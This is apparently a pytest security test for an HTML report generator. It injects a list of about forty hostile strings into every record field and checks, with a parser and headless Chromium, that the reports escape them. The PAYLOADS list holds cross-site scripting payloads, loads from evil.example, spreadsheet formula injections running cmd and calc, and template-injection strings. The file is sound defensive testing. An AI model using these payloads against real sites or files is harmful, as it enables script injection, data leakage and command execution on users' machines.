"""Hostile strings in every field of a record, in every HTML report.

Run in Chromium by `make test-browser`, with the page's own content security policy switched off:
what is shown is that the strings are escaped, not that the policy would have stopped them.
"""

import os
import random
import shutil
from collections.abc import Callable, Iterator, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from ragattr.metrics.audit import count
from ragattr.metrics.tally import Tally
from ragattr.report.audit import Audit, Group, render_audit
from ragattr.report.html import render_html
from ragattr.report.mechanism import render_mechanism
from tests.reliability.figures import SEED, Shown
from tests.report.test_html import claims, heated
from tests.report.test_mechanism import FOUND, SEEN

Row = dict[str, Any]
TOGETHER = 10  # strings of a page
PAYLOADS = (
    "<script>alert(§)</script>",
    "<ScRiPt src=//evil.example/§></ScRiPt>",
    "<img src=https://evil.example/§ onerror=alert(§)>",
    "<svg/onload=alert(§)>",
    "<svg><animate onbegin=alert(§) attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/§#x'/></svg>",
    "<math><mtext><style><img src onerror=alert(§)></style></mtext></math>",
    "<iframe srcdoc='<script>parent.alert(§)</script>'></iframe>",
    "<object data=https://evil.example/§></object><embed src=//evil.example/§>",
    "<a href=javascript:alert(§)>x</a>",
    "<a href='java\tscript:alert(§)'>x</a>",
    "<form action=//evil.example/§><button autofocus onfocus=alert(§)>x</button></form>",
    "<details open ontoggle=alert(§)>x</details>",
    "<video autoplay onloadstart=alert(§)><source src=//evil.example/§>",
    "<body onload=alert(§)><marquee onstart=alert(§)>",
    "<link rel=stylesheet href=https://evil.example/§.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/§'>",
    "<base href=https://evil.example/§/>",
    "<style>@import 'https://evil.example/§';*{background:url(//evil.example/§)}</style>",
    "expression(alert(§)) url(https://evil.example/§) ;}*{background:url(//evil.example/§)",
    "' onmouseover='alert(§)' style='background:url(//evil.example/§)",
    '" autofocus onfocus="alert(§)" x="',
    " onpointerenter=alert(§) ",
    "![x](https://evil.example/§.png) [y](javascript:alert(§))",
    "<https://evil.example/§> **bold** `code` <b>raw</b>",
    '=HYPERLINK("https://evil.example/§","x")',
    "=cmd|'/C calc'!A§",
    "@SUM(1+§)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A§",
    "{{ 7 * § }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(§)} #{§} <%= § %> {§}",
    "\u202ealert(§)\u202c \u2066rtl\u2069 \u200f",
    "\x00\x1b[2J\x1b]0;§\x07\x08\ud800",
    "&lt;script&gt;alert(§)&lt;/script&gt; &#x3c;img src=x&#x3e; &amp;",
    "\uff1cscript\uff1ealert(§)\uff1c/script\uff1e",
    "<!--><img src=x onerror=alert(§)>-->",
    "<![CDATA[<script>alert(§)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(§)>'>",
    "<template><script>alert(§)</script></template>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==§",
)
AROUND = (
    *("{}", "'>{}", '">{}', "</style>{}<style>", "</title>{}", "-->{}<!--", "</textarea>{}"),
    *("</span></a></p></div>{}", "]]>{}", "\u202e{}", "\x00{}", "{0}{0}", "\n\n{}\n"),
)
KEPT = {"verdict", "class", "origin", "offsets", "kind"}  # words of the program's own
FORBIDDEN = {"script", "iframe", "object", "embed", "base", "form", "img", "link", "video", "math"}
COUNTED = """(others) => {
    const all = [...document.querySelectorAll("*")];
    const links = ["href", "src", "srcset", "xlink:href", "action", "data", "poster"];
    const isBad = a => a.name.startsWith("on") || a.name === "style"
        || (links.includes(a.name) && !a.value.startsWith("#"));
    return {
        scripts: document.querySelectorAll("script").length,
        others: document.querySelectorAll(others).length,
        styles: document.querySelectorAll("style").length - 1,
        attributes: all.filter(e => [...e.attributes].some(isBad)).length,
    };
}"""


def hostile(n: int, seed: int = SEED) -> list[str]:
    """N different strings: a payload in a surrounding, with its number in it."""
    found = [around.format(payload) for payload in PAYLOADS for around in AROUND]
    random.Random(seed).shuffle(found)
    return [text.replace("§", str(number)) for number, text in enumerate(found[:n], start=1)]


def everywhere(value: Any, text: str, key: str = "") -> Any:
    """A record with the text in every field; what offsets point into keeps its own before it."""
    if isinstance(value, dict):
        changed = {name: everywhere(inner, text, name) for name, inner in value.items()}
        has_unknown = not {"id", "citations"}.isdisjoint(value)
        return {**changed, text: text, "unknown": [text]} if has_unknown else changed
    if isinstance(value, list | tuple):
        return [everywhere(inner, text, key) for inner in value]
    if not isinstance(value, str) or key in KEPT:
        return value
    is_pointed_at = key in ("answer", "text", "before", "passage", "id")
    return f"{value} {text}" if is_pointed_at else text


def record(text: str) -> Row:
    """Claims of every kind, scores, fidelity, a revision, and the text in all of it."""
    edit = {"start": 0, "end": 0, "before": "", "after": "a", "reason": "b", "passage": "sky"}
    evidence = {"passage": "sky", "start": 0, "end": 17}
    revision = {
        "method": "m",
        "text": "t",
        "claims": claims(),
        "edits": [{**edit, "evidence": evidence}, {**edit, "evidence": None}],
        "preservation": 1.0,
        "unsupported": [1],
        "warnings": ["w"],
    }
    made = {**heated(), "claims": claims(), "revision": revision, "generator": "g"}
    alarm = {"passage": "sky", "kind": "instructions", "used": 0.5, "claims": [2], "text": "t"}
    made |= {"warnings": ["w"], "alarms": [{**alarm, "start": 0, "end": 4}]}
    made["passages"][0] |= {"source": "s", "page": "p", "duplicates": ["d"]}
    for name in ("scores", "group_scores", "n_tokens"):
        made["attribution"][name] *= 3
    made["attribution"]["fidelity"] = {"n_masks": 8, "lds": [0.5, 0.25, 0.75], text: [1.0, 0, 1]}
    made["attribution"]["subset"] = {
        "sources": [0], "loss": 0.1, "drop": 0.2, "is_sufficient": True,
    }  # fmt: skip
    return everywhere(made, text)


def audit(texts: Sequence[str]) -> Audit:
    """Groups of these names, and the records among those to look at."""
    records, tally = [record(text) for text in texts], Tally(n_draws=10)
    for one in records:
        tally.add(count(one), one["question"])
    figures = tally.figures()
    groups = [Group(text, 1, figures) for text in texts]
    return Audit(
        figures=figures,
        n_records=len(texts),
        n_failed=1,
        n_questions=len(texts),
        n_warned=1,
        groups={"source": groups, "question": groups},
        histogram=(1, 2),
        verifier=records[0]["verifier"],
        readers=tuple(texts),
        worst=tuple(records),
        agreement=None,
        differences={},
        n_compared=0,
        about={text: text for text in texts},
        seconds=1.0,
    )


REPORTS: dict[str, Callable[[Sequence[str]], str]] = {
    "record": lambda texts: render_html([record(text) for text in texts]),
    "audit": lambda texts: render_audit(audit(texts)),
    "mechanism": lambda texts: render_mechanism(
        [everywhere(made, text) for text in texts for made in (SEEN, FOUND)]
    ),
}


class Nodes(HTMLParser):
    """Elements and attributes that a report has no use for."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad, self.n_styles, self.text = list[str](), 0, ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.n_styles += tag == "style"
        self.bad += [tag] if tag in FORBIDDEN else []
        for name, value in attrs:
            is_link = name in ("href", "src", "srcset", "xlink:href", "action", "data", "poster")
            if name.startswith("on") or name == "style":
                self.bad.append(name)
            elif is_link and not (value or "").startswith("#"):
                self.bad.append(f"{name}={value}")

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("report", REPORTS)
def test_no_string_becomes_an_element_or_a_link(report: str) -> None:
    texts = hostile(50)
    for at in range(0, len(texts), TOGETHER):
        nodes = Nodes(REPORTS[report](texts[at : at + TOGETHER]))
        assert (nodes.bad, nodes.n_styles) == ([], 1)
        assert "evil.example" in nodes.text  # it is there, as text


def test_the_check_sees_what_is_not_escaped() -> None:
    assert sum(bool(Nodes(text).bad) for text in hostile(500)) > 200


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api")
    found = os.environ.get("CHROMIUM") or shutil.which("chromium")
    if not found:
        pytest.fail("no Chromium: install the package chromium, or name one in CHROMIUM")
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=found)
        yield browser
        browser.close()


def opened(browser: Any, path: Path) -> Row:
    """What a page does and holds when it is opened, its own policy switched off."""
    context = browser.new_context(bypass_csp=True)
    page, dialogs, requests = context.new_page(), list[str](), list[str]()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
    page.wait_for_timeout(50)
    counted = page.evaluate(COUNTED, ", ".join(FORBIDDEN - {"script"}))
    seen = {"dialogs": len(dialogs), "requests": len(requests) - 1, **counted}
    context.close()
    return seen


@pytest.mark.browser
@pytest.mark.parametrize("report", REPORTS)
def test_a_browser_opens_no_dialog_asks_for_nothing_and_finds_no_script(
    report: str, chromium: Any, tmp_path: Path, shown: Shown
) -> None:
    texts, found = hostile(500), list[Row]()
    for at in range(0, len(texts), TOGETHER):
        path = tmp_path / "page.html"
        path.write_text(REPORTS[report](texts[at : at + TOGETHER]), "utf-8")
        found.append(opened(chromium, path))
    totals = {name: sum(seen[name] for seen in found) for name in found[0]}
    shown(len(texts), sum(any(seen.values()) for seen in found), browser=chromium.version, **totals)
    assert totals == dict.fromkeys(totals, 0)


@pytest.mark.browser
def test_a_browser_shows_what_unescaped_strings_do(chromium: Any, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    texts = [text for text in hostile(500) if "refresh" not in text]  # it would leave the page
    path.write_text("".join(["<style></style>", *texts]), "utf-8", errors="replace")
    seen = opened(chromium, path)
    assert min(seen[name] for name in ("requests", "scripts", "others", "attributes")) > 0
